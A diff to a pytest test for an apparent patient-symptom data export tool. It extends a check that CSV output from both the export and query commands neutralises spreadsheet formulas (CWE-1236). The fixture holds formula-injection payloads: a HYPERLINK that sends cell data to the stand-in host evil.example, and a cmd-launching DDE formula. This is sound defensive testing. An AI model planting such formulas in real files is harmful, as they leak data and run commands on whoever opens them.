@@ -6,6 +6,7 @@ from __future__ import annotations
 import argparse
 import contextlib
 import functools
+import io
 import json
 import os
 import re
@@ -347,12 +348,12 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc
 
 
 async def test_a_csv_export_never_hands_a_spreadsheet_a_formula(
-    influx_db: InfluxDatabase, tmp_path: Path
+    influx_db: InfluxDatabase, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     """A symptom note is what a patient typed and ``by`` what a caregiver's app sent: text
     that starts with ``=``, ``+``, ``-`` or ``@`` is a formula to the spreadsheet a
-    researcher opens the CSV in (CWE-1236). The CSV quotes it (a leading ``'``); Parquet and
-    JSON Lines, read by programs, keep it as it was."""
+    researcher opens the CSV in (CWE-1236). The CSV of ``export`` and of ``query`` quotes it
+    (a leading ``'``); Parquet and JSON Lines, read by programs, keep it as it was."""
     async with make_sink(influx_db, tmp_path) as sink:
         for n, note in enumerate(FORMULAS):
             sink.submit_record(
@@ -369,3 +370,10 @@ async def test_a_csv_export_never_hands_a_spreadsheet_a_formula(
     assert kept == list(FORMULAS)
     numbers = pd.read_csv(tmp_path / "csv" / "p-001_symptoms.csv")["core_delta_c"].tolist()
     assert numbers == [0.4] * 3, "numbers are not quoted"
+    capsys.readouterr()
+    query = 'SELECT "note", "core_delta_c" FROM symptoms'
+    argv = ("--url", influx_db.url, "--database", influx_db.name)
+    assert run_cli("query", query, "--format", "csv", *argv) == 0
+    printed = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str)
+    assert printed["note"].tolist() == ["'" + note for note in FORMULAS]
+    assert printed["core_delta_c"].tolist() == ["0.4"] * 3
